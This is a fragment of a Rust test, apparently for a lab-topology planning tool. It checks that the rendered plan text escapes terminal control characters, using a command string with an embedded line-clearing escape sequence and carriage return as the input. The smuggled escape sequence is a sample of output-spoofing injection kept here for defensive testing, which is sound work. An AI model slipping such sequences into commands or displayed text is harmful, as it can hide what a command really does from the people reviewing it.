    let c = compile_str(yaml, "esc.yaml", Path::new("/labs")).unwrap();
    let p = plan::plan(&c.topology);
    let text = plan::render_text(&p);
    assert!(!text.contains(['\u{1b}', '\r']), "{text:?}");
    assert_eq!(text.lines().count(), p.steps.len() + 1, "{text}");
    assert!(
        text.contains("sh \\u{1b}[2K\\u{d}echo hello"),
        "the command is not all there: {text}"
    );
    assert!(!text.lines().any(|l| l.starts_with(" 99")), "{text}");
}
